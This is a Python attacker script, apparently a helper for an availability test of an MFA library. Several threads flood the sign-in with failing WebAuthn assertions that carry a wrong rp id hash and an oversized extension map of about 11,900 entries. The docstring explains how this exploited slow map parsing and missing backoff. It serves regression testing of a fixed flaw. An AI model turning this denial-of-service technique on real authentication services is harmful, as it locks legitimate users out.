"""The attacker of test_store_availability.py, run as a process of its own.

A user with a registered security key ("mallory", who knows her own
password) sends WebAuthn assertions that can never pass, as fast as it
can, from several threads sharing one context: each one's authenticator
data is scoped to another rp id (a wrong rp id hash) and carries an
extension map of about 11,900 entries, as much as a credential's 64 KiB of
JSON holds. (Reading such a map compared each key with every key before
it, about 0.2 s, in the attempt's write transaction; and a wrong rp id hash
was never counted, so no backoff ever stopped it.)

    python3 availability_attacker.py STORE CREDENTIAL_ID_B64 SECONDS THREADS

Prints "ready" once the threads run, then, when SECONDS have passed, the
names of the answers it got and how many of each, as JSON.
"""

import base64
import collections
import hashlib
import json
import sys
import threading
import time

import libmfa

KEY = bytes(range(32))
ENTRIES = 11_900


def b64(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def authenticator_data():
    """Scoped to another rp id, UP, UV and ED, then a map of ENTRIES unique keys (256, 257, ...) to null."""
    data = bytearray(hashlib.sha256(b"attacker.example").digest() + bytes([0x85, 0, 0, 0, 1]))
    data += bytes([0xB9]) + ENTRIES.to_bytes(2, "big")
    for key in range(256, 256 + ENTRIES):
        data += bytes([0x19]) + key.to_bytes(2, "big") + bytes([0xF6])
    return b64(bytes(data))


def main():
    store, credential_id, seconds, threads = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
    data = authenticator_data()
    context = libmfa.Context(store, master_key=KEY)
    answers = collections.Counter()
    lock = threading.Lock()
    end = time.monotonic() + seconds

    def attack():
        while time.monotonic() < end:
            user = libmfa.User("mallory", email="mallory@example.com", email_verified=True, auth_time=int(time.time()))
            try:
                context.sign_in(user)
                name = "signed in without a second factor"
            except libmfa.SecondFactorRequired as required:
                resolver = required.resolver
                options = json.loads(libmfa.WebAuthnMultiFactorGenerator.authentication_options(resolver))
                client = json.dumps({"type": "webauthn.get", "challenge": options["challenge"],
                                     "origin": "https://example.com", "crossOrigin": False}).encode()
                credential = json.dumps({"id": credential_id, "rawId": credential_id, "type": "public-key",
                                         "response": {"clientDataJSON": b64(client), "authenticatorData": data,
                                                      "signature": b64(bytes(64)), "userHandle": None}})
                assert len(credential) < 65536
                try:
                    resolver.resolve_sign_in(libmfa.WebAuthnMultiFactorGenerator.assertion_for_sign_in(credential))
                    name = "OK"
                except libmfa.MFAError as error:
                    name = error.name
            except libmfa.MFAError as error:
                name = error.name
            with lock:
                answers[name] += 1

    workers = [threading.Thread(target=attack) for _ in range(threads)]
    for worker in workers:
        worker.start()
    print("ready", flush=True)
    for worker in workers:
        worker.join()
    context.close()
    print(json.dumps(answers), flush=True)


if __name__ == "__main__":
    main()
